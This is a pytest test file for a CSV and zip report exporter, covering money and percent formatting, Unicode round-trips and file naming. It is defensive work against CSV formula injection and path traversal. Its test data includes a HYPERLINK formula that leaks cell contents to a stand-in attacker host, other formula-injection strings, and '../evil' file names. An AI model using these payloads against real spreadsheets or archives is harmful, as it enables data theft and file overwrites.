"""CSV export: numbers as numbers, text as text (never a formula), one file per breakdown."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from cade.core.money import Money
from cade.reports.outputs.csv import write_csv, write_csv_zip
from cade.reports.tables import Column, Table

BOM = "\ufeff".encode()


def _table(rows, name="by-region", title="By region"):
    return Table(
        name=name,
        title=title,
        columns=[
            Column("region", "Region"),
            Column("awards", "Awards", "count"),
            Column("awarded", "Awarded", "money"),
            Column("share", "Share of awards", "percent"),
        ],
        rows=rows,
    )


def _written(table) -> bytes:
    out = io.BytesIO()
    write_csv(table, out)
    return out.getvalue()


def _read(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))


def test_a_table_is_a_header_of_titles_then_its_rows_in_utf8_with_a_bom_and_crlf():
    data = _written(_table([["Africa", 12, Money.of("1234.56", "EUR"), Decimal("0.25")]]))

    assert data == BOM + b"Region,Awards,Awarded,Share of awards\r\nAfrica,12,1234.56,0.2500\r\n"


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "+1", "-1", "@SUM(A1:A2)",
    "\tTAB", "\rCR", "-",
])
def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(text):
    [header, row] = _read(_written(_table([[text, 1, None, None]])))

    assert row[0] == "'" + text


@pytest.mark.parametrize("text", ["Africa", "Côte d'Ivoire", "'quoted'", "1+1", " =not first", ""])
def test_other_text_is_written_as_it_is(text):
    [header, row] = _read(_written(_table([[text, 1, None, None]])))

    assert row[0] == text


def test_negative_figures_stay_numbers_not_escaped():
    [header, row] = _read(_written(_table([["Refunds", -1, Money.of("-12.5", "EUR"), Decimal("-0.125")]])))

    assert row == ["Refunds", "-1", "-12.50", "-0.1250"]


def test_none_is_an_empty_cell():
    [header, row] = _read(_written(_table([["Nowhere", 0, None, None]])))

    assert row == ["Nowhere", "0", "", ""]


@pytest.mark.parametrize("money,written", [
    (Money.of("1500", "JPY"), "1500"),
    (Money.of("1.234", "BHD"), "1.234"),
    (Money.of("7", "BHD"), "7.000"),
    (Money.of("1234567.8", "EUR"), "1234567.80"),
    (Money.zero("USD"), "0.00"),
])
def test_money_is_a_plain_decimal_with_the_currency_s_minor_digits(money, written):
    [header, row] = _read(_written(_table([["X", 1, money, None]])))

    assert row[2] == written


@pytest.mark.parametrize("fraction,written", [
    (Decimal("0.25"), "0.2500"), (Decimal("1"), "1.0000"), (Decimal("0.33333"), "0.3333"),
    (Decimal("0.00005"), "0.0001"), (Decimal("0"), "0.0000"), (0.5, "0.5000"),
])
def test_a_percent_is_its_fraction_with_four_decimals(fraction, written):
    [header, row] = _read(_written(_table([["X", 1, None, fraction]])))

    assert row[3] == written


def test_unicode_commas_quotes_and_line_breaks_survive_a_round_trip():
    names = ["São Tomé and Príncipe", "Türkiye", "中国", 'Say "hi", twice', "two\nlines", "Ελλάδα 🙂"]
    rows = [[name, 1, None, None] for name in names]

    [header, *read] = _read(_written(_table(rows)))

    assert [row[0] for row in read] == names


def test_a_title_is_text_too():
    table = Table("t", "T", [Column("n", "-Net", "money")], [[Money.of("1", "EUR")]])

    assert _read(_written(table)) == [["'-Net"], ["1.00"]]


def test_an_empty_table_is_its_header_only():
    assert _read(_written(_table([]))) == [["Region", "Awards", "Awarded", "Share of awards"]]


def test_the_caller_s_stream_is_left_open():
    out = io.BytesIO()
    write_csv(_table([["A", 1, None, None]]), out)
    out.write(b"more")

    assert out.getvalue().endswith(b"more")


@pytest.mark.parametrize("kind,value", [
    ("count", "12"), ("count", 1.5), ("count", True), ("money", Decimal("1.00")), ("money", 100),
    ("percent", "25 %"), ("percent", Money.of("1", "EUR")),
])
def test_a_cell_of_the_wrong_type_for_its_column_is_refused_naming_the_table_and_column(kind, value):
    table = Table("by-year", "By year", [Column("figure", "Figure", kind)], [[value]])

    with pytest.raises(TypeError, match="by-year.*figure"):
        _written(table)


def test_a_count_may_be_an_integral_decimal_as_sql_sums_return():
    table = Table("t", "T", [Column("n", "N", "count")], [[Decimal("42")]])

    assert _read(_written(table)) == [["N"], ["42"]]


def test_a_zip_holds_one_csv_per_table_named_after_it():
    tables = [
        _table([["Africa", 3, Money.of("10", "EUR"), Decimal("0.5")]]),
        _table([["=cmd", 1, None, None]], name="by-stakeholder-group", title="By stakeholder group"),
    ]
    out = io.BytesIO()

    write_csv_zip(tables, out)

    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        assert archive.namelist() == ["by-region.csv", "by-stakeholder-group.csv"]
        assert archive.read("by-region.csv") == _written(tables[0])
        assert _read(archive.read("by-stakeholder-group.csv"))[1][0] == "'=cmd"


def test_a_zip_can_be_written_to_a_stream_that_cannot_seek():
    class Unseekable(io.RawIOBase):
        def __init__(self):
            self.data = bytearray()

        def writable(self):
            return True

        def write(self, b):
            self.data += b
            return len(b)

    out = Unseekable()
    write_csv_zip([_table([["A", 1, None, None]])], out)

    with zipfile.ZipFile(io.BytesIO(bytes(out.data))) as archive:
        assert archive.namelist() == ["by-region.csv"]


@pytest.mark.parametrize("names", [["../evil"], ["a/b"], [""], ["same", "same"], [".hidden"]])
def test_a_zip_refuses_table_names_that_are_not_plain_unique_file_names(names):
    tables = [_table([], name=name) for name in names]

    with pytest.raises(ValueError):
        write_csv_zip(tables, io.BytesIO())
